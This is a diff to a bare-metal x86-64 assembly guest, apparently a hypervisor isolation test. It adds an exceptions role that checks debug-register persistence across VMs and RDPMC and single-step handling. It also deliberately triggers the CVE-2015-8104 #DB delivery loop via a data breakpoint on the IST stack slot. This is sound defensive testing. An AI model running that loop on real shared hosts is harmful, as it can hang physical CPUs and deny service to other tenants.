@@ -14,8 +14,28 @@
  *      Run next to a painter on the same physical CPU, it catches a hypervisor that restores a
  *      vCPU's FPU/SSE state only under the guest's XCR0 (x87 only after reset), leaving the
  *      previous vCPU's SSE registers in place.
+ *   E  exceptions (issue 16, finding 4), the second character of the command line (a digit) set
+ *      apart two such VMs: loads DR0-DR3 with values of its own (breakpoints disabled) and an IDT;
+ *      runs WBINVD and INVD ("EMBER-BARE: wbinvd and invd went on"), RDPMC ("EMBER-BARE: rdpmc
+ *      raised #GP"), and 100,000 single-step #DBs with TF set ("EMBER-BARE: 100000 single-step #DB
+ *      delivered"); then checks for about 15 s of TSC time that DR0-DR3 keep its values while other
+ *      vCPUs use the CPU ("EMBER-BARE: debug registers kept" or "EMBER-BARE: debug registers
+ *      LOST"); then says "EMBER-BARE: #DB delivery loop", gives #DB a stack of its own (IST1 of a
+ *      TSS), arms a data breakpoint on the slot of that stack that delivering #DB writes, and raises
+ *      #DB: each delivery raises the next #DB (CVE-2015-8104), for ever if the CPU checks
+ *      breakpoints during delivery. (The first #DB comes from a store to that slot: ICEBP in a
+ *      nested guest crashed QEMU 7.2's TCG with SIGSEGV.) A
+ *      hypervisor that did not intercept #DB would lose that CPU; with the intercept the VM spins
+ *      through exits and can be stopped. If delivery does not trigger the breakpoint it says
+ *      "EMBER-BARE: no #DB delivery loop" and halts.
  */
     .intel_syntax noprefix
+    .set IDT, 0x60000                   /* role E's IDT and IDTR: free guest RAM below the stack */
+    .set IDTR, 0x61000
+    .set GDT, 0x62000
+    .set GDTR, 0x62800
+    .set TSS, 0x63000
+    .set DB_STACK, 0x70000
     .text
     .code64
 start:
@@ -53,6 +73,8 @@ entry:
     mov cr4, rax
     cmp bl, 'P'
     je painter
+    cmp bl, 'E'
+    je exceptions
 
 reader:
     lea rsi, [rip + msg_reader]
@@ -120,6 +142,146 @@ stop:
     hlt
     jmp stop
 
+/* Role E. r15 = this VM's DR0 value (DR1-DR3 follow it); r13 counts #GP, r14 #DB. */
+exceptions:
+    mov eax, dword ptr [rsi + 0x228]    /* the command line again: its second character */
+    movzx r15d, byte ptr [rax + 1]
+    shl r15, 20
+    or r15, 0x1000
+    mov rax, r15
+    mov dr0, rax
+    add rax, 0x100
+    mov dr1, rax
+    add rax, 0x100
+    mov dr2, rax
+    add rax, 0x100
+    mov dr3, rax
+    mov edi, 1
+    lea rax, [rip + db_handler]
+    call set_gate
+    mov edi, 13
+    lea rax, [rip + gp_handler]
+    call set_gate
+    mov word ptr [IDTR], 0xfff
+    mov qword ptr [IDTR + 2], IDT
+    lidt [IDTR]
+    xor r13d, r13d
+    xor r14d, r14d
+    wbinvd
+    invd
+    lea rsi, [rip + msg_cache]
+    call puts
+    xor ecx, ecx
+    rdpmc                               /* #GP(0): the handler skips it */
+    lea rsi, [rip + msg_rdpmc]
+    cmp r13, 1
+    je 5f
+    lea rsi, [rip + msg_rdpmc_bad]
+5:  call puts
+    pushfq
+    or qword ptr [rsp], 0x100           /* TF: #DB after every instruction from here */
+    popfq
+6:  cmp r14, 100000
+    jb 6b                               /* the handler clears TF at the 100,000th */
+    lea rsi, [rip + msg_stepped]
+    cmp r14, 100000
+    je 7f
+    lea rsi, [rip + msg_stepped_bad]
+7:  call puts
+    call now
+    mov r12, rax
+8:  call check_drs
+    jne drs_lost
+    call now
+    sub rax, r12
+    movabs rcx, 40000000000
+    cmp rax, rcx
+    jb 8b
+    lea rsi, [rip + msg_drs_kept]
+    call puts
+    jmp db_loop
+drs_lost:
+    lea rsi, [rip + msg_drs_lost]
+    call puts
+db_loop:
+    /* A GDT with a TSS whose IST1 is the #DB stack: every delivery then writes the same slot. */
+    sgdt [GDTR]
+    mov rsi, qword ptr [GDTR + 2]
+    xor ecx, ecx
+11: mov rax, qword ptr [rsi + rcx * 8]  /* null, null, code 0x10, data 0x18 */
+    mov qword ptr [GDT + rcx * 8], rax
+    inc ecx
+    cmp ecx, 4
+    jb 11b
+    movabs rax, 0x0000890630000067      /* 0x20: 64-bit TSS at 0x63000, limit 0x67 */
+    mov qword ptr [GDT + 0x20], rax
+    mov qword ptr [GDT + 0x28], 0
+    mov qword ptr [TSS + 0x24], DB_STACK /* IST1 */
+    mov word ptr [GDTR], 0x2f
+    mov qword ptr [GDTR + 2], GDT
+    lgdt [GDTR]
+    mov ax, 0x20
+    ltr ax
+    mov byte ptr [IDT + 16 + 4], 1      /* #DB's gate uses IST1 */
+    lea rsi, [rip + msg_loop]
+    call puts
+    mov rax, DB_STACK - 8               /* where delivery pushes SS */
+    mov dr0, rax
+    mov rax, 0xd0401                    /* DR7: L0, data writes, 8 bytes */
+    mov dr7, rax
+    mov r14, 200000                     /* the handler leaves TF alone from now on */
+    mov qword ptr [DB_STACK - 8], rax   /* the breakpoint's own slot: #DB */
+    xor eax, eax
+    mov dr7, rax
+    lea rsi, [rip + msg_no_loop]
+    call puts
+    jmp stop
+
+/* ZF set if DR0-DR3 hold this VM's values. */
+check_drs:
+    mov rax, dr0
+    cmp rax, r15
+    jne 9f
+    mov rax, dr1
+    lea rcx, [r15 + 0x100]
+    cmp rax, rcx
+    jne 9f
+    mov rax, dr2
+    lea rcx, [r15 + 0x200]
+    cmp rax, rcx
+    jne 9f
+    mov rax, dr3
+    lea rcx, [r15 + 0x300]
+    cmp rax, rcx
+9:  ret
+
+/* IDT entry edi: a 64-bit interrupt gate to rax in the boot code segment (0x10). */
+set_gate:
+    shl edi, 4
+    add edi, IDT
+    mov word ptr [rdi], ax
+    mov word ptr [rdi + 2], 0x10
+    mov word ptr [rdi + 4], 0x8e00
+    shr rax, 16
+    mov word ptr [rdi + 6], ax
+    shr rax, 16
+    mov dword ptr [rdi + 8], eax
+    mov dword ptr [rdi + 12], 0
+    ret
+
+gp_handler:
+    inc r13
+    add qword ptr [rsp + 8], 2          /* past RDPMC (0F 33); the error code is at rsp */
+    add rsp, 8
+    iretq
+
+db_handler:
+    inc r14
+    cmp r14, 100000
+    jne 10f
+    and qword ptr [rsp + 16], ~0x100    /* RFLAGS in the frame: TF off */
+10: iretq
+
 /* rax = TSC */
 now:
     rdtsc
@@ -137,6 +299,15 @@ puts:
     jmp 3b
 4:  ret
 
+msg_cache:   .asciz "EMBER-BARE: wbinvd and invd went on\n"
+msg_rdpmc:   .asciz "EMBER-BARE: rdpmc raised #GP\n"
+msg_rdpmc_bad: .asciz "EMBER-BARE: rdpmc did not raise #GP once\n"
+msg_stepped: .asciz "EMBER-BARE: 100000 single-step #DB delivered\n"
+msg_stepped_bad: .asciz "EMBER-BARE: single-step #DB count wrong\n"
+msg_drs_kept: .asciz "EMBER-BARE: debug registers kept\n"
+msg_drs_lost: .asciz "EMBER-BARE: debug registers LOST\n"
+msg_loop:    .asciz "EMBER-BARE: #DB delivery loop\n"
+msg_no_loop: .asciz "EMBER-BARE: no #DB delivery loop\n"
 msg_reader:  .asciz "EMBER-BARE: reader started\n"
 msg_clean:   .asciz "EMBER-BARE: clean\n"
 msg_leak:    .asciz "EMBER-BARE: LEAK another VM's XMM0\n"
